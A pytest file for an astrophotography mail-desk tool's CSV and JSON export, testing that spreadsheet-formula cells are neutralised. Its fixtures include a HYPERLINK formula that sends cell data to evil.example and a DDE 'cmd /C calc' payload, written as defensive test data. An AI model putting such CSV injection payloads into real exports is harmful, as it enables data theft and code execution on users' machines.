"""`ipom export`: every field, notes and decisions; --by taken; cells a spreadsheet would run are text."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from ipom_mail.desk.csv_safe import csv_cell
from samples import _message, photo_jpeg
from tests.desk_kit import Desk, polled_template

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def formulas() -> bytes:
    msg = _message(
        '"@SUM(1+1)" <formula@example.net>',
        FORMULA,
        "Time: 2024-05-12 21:40 UT\nEquipment: Nikon D850\n"
        "Max elevation 84°, from 21:38 to 21:45 UT, brightness -3.9 mag\n\n"
        "-cmd|' /C calc'!A0 is my story.\n",
        datetime(2024, 5, 13, 12, 0, tzinfo=UTC),
    )
    msg.add_attachment(photo_jpeg(camera=None), maintype="image", subtype="jpeg", filename="a.jpg")
    return msg.as_bytes()


@pytest.fixture(scope="module")
def polled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    extra = {"08-formula.eml": formulas()}
    with polled_template(tmp_path_factory.mktemp("polled"), extra) as desk:
        yield desk


def this_month() -> str:
    return datetime.now(UTC).strftime("%Y-%m")


def test_export_carries_every_field_the_notes_and_the_decisions(desk: Desk) -> None:
    maria = desk.refs["01-complete.eml"]
    assert desk.run("note", maria, "ask for the raw file", "--curator", "ana").exit_code == 0
    assert desk.run("pick", maria, "--month", "2024-06", "--curator", "ana").exit_code == 0
    records = json.loads(desk.run("export", "--month", this_month(), "--format", "json").output)
    record = next(r for r in records if r["reference"] == maria)
    fields = record["fields"]
    assert fields["equipment"] == [
        "Celestron EdgeHD 8",
        "ZWO ASI462MC",
        "Sky-Watcher EQ6-R Pro",
        "Canon EOS 6D",
    ]
    assert fields["flyby"]["max_elevation_deg"] == 72 and fields["flyby"]["magnitude"] == -3.6
    assert fields["photographer"]["links"] == ["https://www.instagram.com/maria.astro"]
    assert fields["story"] and fields["taken_at"] == "2024-05-12T21:34:10Z"
    assert record["curator_notes"] == ["ask for the raw file"] and record["notes"]
    assert [(d["kind"], d["curator"]) for d in record["decisions"]][-2:] == [
        ("note", "ana"),
        ("pick", "ana"),
    ]
    rows = list(csv.DictReader(io.StringIO(desk.run("export", "--month", this_month()).output)))
    row = next(r for r in rows if r["reference"] == maria)
    assert float(row["flyby_max_elevation_deg"]) == 72 and row["flyby_magnitude"] == "-3.6"
    assert row["photographer_links"] == "https://www.instagram.com/maria.astro"
    assert (
        row["curator_notes"] == "ask for the raw file" and "pick 2024-06 by ana" in row["decisions"]
    )


def test_export_by_taken_month_finds_a_backlog_received_later(desk: Desk) -> None:
    by_received = json.loads(desk.run("export", "--month", "2024-05", "--format", "json").output)
    assert by_received == []
    taken = desk.run("export", "--month", "2024-05", "--by", "taken", "--format", "json")
    refs = {r["reference"] for r in json.loads(taken.output)}
    assert {desk.refs["01-complete.eml"], desk.refs["08-formula.eml"]} <= refs
    assert "04-autoreply.eml" not in desk.refs  # an automatic reply never becomes a submission
    assert refs <= set(desk.refs.values())


def test_csv_cells_a_spreadsheet_would_run_are_prefixed_and_numbers_stay_numbers(
    desk: Desk,
) -> None:
    ref = desk.refs["08-formula.eml"]
    for args in (("export", "--month", this_month()), ("queue", "--csv")):
        rows = list(csv.DictReader(io.StringIO(desk.run(*args).output)))
        row = next(r for r in rows if r["reference"] == ref)
        assert row["subject"] == "'" + FORMULA, args
        assert row["sender_name"] == "'@SUM(1+1)", args
        assert all(not v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values()), row
    exported = next(
        r
        for r in csv.DictReader(io.StringIO(desk.run("export", "--month", this_month()).output))
        if r["reference"] == ref
    )
    assert exported["flyby_magnitude"] == "-3.9"
    assert exported["story"].startswith("'-cmd|")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3.9", "-3.9"),
        ("−3.9", "−3.9"),
        (-3.9, -3.9),
        ("Nikon", "Nikon"),
    ],
)
def test_a_csv_cell_is_text_unless_it_is_a_number(value: object, cell: object) -> None:
    assert csv_cell(value) == cell
